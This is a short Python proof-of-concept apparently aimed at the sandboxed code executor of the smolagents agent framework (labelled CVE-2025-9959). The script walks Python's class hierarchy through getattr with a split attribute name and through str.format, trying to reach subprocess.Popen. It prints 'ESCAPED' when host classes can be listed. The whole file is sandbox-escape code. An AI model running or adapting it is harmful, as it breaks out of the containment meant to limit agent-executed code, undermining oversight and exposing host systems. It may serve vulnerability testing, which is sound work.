# smolagents CVE-2025-9959: class hierarchy traversal to subprocess.Popen, through str.format and getattr
names = []
for base in (object, type, ().__class__.__mro__[-1]):
    for get in (lambda b: b.__subclasses__(), lambda b: getattr(b, '__subcl' + 'asses__')(), lambda b: type.__subclasses__(b)):
        try:
            names += [c.__name__ for c in get(base)]
        except Exception:
            pass
if 'Popen' in names or 'catch_warnings' in names:
    print('ESCAPED: host classes listed')
'{0.__class__.__mro__[1].__subclasses__}'.format(())
